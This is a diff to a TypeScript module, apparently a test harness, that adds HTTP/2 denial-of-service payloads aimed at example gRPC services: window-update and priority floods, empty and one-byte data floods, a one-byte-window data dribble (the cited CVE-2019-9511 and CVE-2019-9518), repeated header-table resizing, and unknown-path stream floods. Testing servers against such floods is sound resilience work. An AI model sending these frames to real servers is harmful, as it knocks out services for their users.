@@ -4,6 +4,7 @@
  */
 import { connect } from "node:net";
 import { gzipSync } from "node:zlib";
+import { streamRequest } from "../../servers/grpc/services/example-messages.ts";
 import { callFields, field, flags, frameTypes, h2Frame, preface } from "../../test/grpc/h2-frames.ts";
 
 export interface AttackFigures {
@@ -11,7 +12,7 @@ export interface AttackFigures {
   readonly bytes: number;
 }
 
-const { data, headers, rstStream, settings, ping, continuation } = frameTypes;
+const { data, headers, priority, rstStream, settings, ping, windowUpdate, continuation } = frameTypes;
 const oddStreams = (count: number): readonly number[] => Array.from({ length: count }, (_, index) => 2 * index + 1);
 const begin = (stream: number, path: string, more: Buffer = Buffer.alloc(0)): Buffer =>
   h2Frame(headers, flags.endHeaders, stream, Buffer.concat([callFields(path), more]));
@@ -23,6 +24,8 @@ function message(stream: number, length: number, content: Buffer, isCompressed =
 }
 const sayHello = "/example.Greeter/SayHello";
 const subscribe = "/example.StreamService/Subscribe";
+/** A request for a stream of 100,000 items a second. */
+const hundredThousand = streamRequest.frame({ fromPosition: 0, count: 0, rate: 100_000, payloadBytes: 100 });
 
 /** What a connection sends behind its preface. */
 export const http2Attacks: Readonly<Record<string, () => Buffer>> = {
@@ -57,6 +60,37 @@ export const http2Attacks: Readonly<Record<string, () => Buffer>> = {
       ]),
     );
   },
+  "window-update": () => {
+    const one = h2Frame(windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]));
+    return Buffer.concat([begin(1, subscribe), ...Array.from({ length: 20_000 }, () => one)]);
+  },
+  priority: () => Buffer.concat(oddStreams(20_000).map((stream) => h2Frame(priority, 0, stream, Buffer.from([0, 0, 0, 0, stream & 0xff])))),
+  // CVE-2019-9518
+  "empty-data": () => Buffer.concat([begin(1, sayHello), ...Array.from({ length: 20_000 }, () => h2Frame(data, 0, 1))]),
+  "one-byte-data": () =>
+    Buffer.concat(
+      oddStreams(100).flatMap((stream) => [
+        begin(stream, sayHello),
+        ...Array.from({ length: 200 }, (_, index) => h2Frame(data, 0, stream, Buffer.from([index === 3 ? 4 : 0]))),
+      ]),
+    ),
+  // CVE-2019-9511: what is answered has a window of a byte, which opens again and again.
+  "data-dribble": () =>
+    Buffer.concat([
+      h2Frame(settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])),
+      ...oddStreams(100).map((stream) =>
+        Buffer.concat([begin(stream, subscribe), h2Frame(data, flags.endStream, stream, hundredThousand)]),
+      ),
+      ...Array.from({ length: 20 }, () =>
+        oddStreams(100).map((stream) => h2Frame(windowUpdate, 0, stream, Buffer.from([0, 0, 0, 1]))),
+      ).flat(),
+    ]),
+  // The table of header fields is resized by each.
+  "table-sizes": () =>
+    Buffer.concat(
+      Array.from({ length: 900 }, (_, index) => h2Frame(settings, 0, 0, Buffer.from([0, 1, 0, 0, index % 2 === 0 ? 16 : 0, 0]))),
+    ),
+  "unknown-paths": () => Buffer.concat(oddStreams(250).map((stream) => begin(stream, `/${stream.toString(36)}/${"x".repeat(60)}`))),
 };
 export const attackNames = Object.keys(http2Attacks);
 
